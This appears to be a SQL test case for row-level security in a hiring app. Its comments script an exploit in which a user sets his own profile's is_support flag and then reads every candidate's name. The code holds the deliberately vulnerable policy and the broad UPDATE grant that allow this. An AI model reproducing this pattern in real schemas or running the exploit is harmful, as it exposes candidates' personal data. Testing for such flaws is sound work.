-- A user makes himself a support person by an update of his own profile, and then reads the candidates of
-- all.
-- about: profiles, is_support, candidates, support_reads
-- as: hf_hiring_app
-- exploit: SET request.jwt.claims = '{"sub":"a1000000-0000-4000-8000-000000000001"}';
-- exploit: UPDATE profiles SET is_support = true WHERE user_id = auth.uid();
-- exploit: SELECT full_name FROM candidates;
-- shows: Road-secret Di
-- Support people look into candidates when a company asks for help.
CREATE POLICY support_reads ON candidates FOR SELECT USING (
  EXISTS (SELECT 1 FROM profiles p WHERE p.user_id = auth.uid() AND p.is_support)
);
-- The settings page saves the whole profile.
GRANT UPDATE ON profiles TO hf_hiring_app;
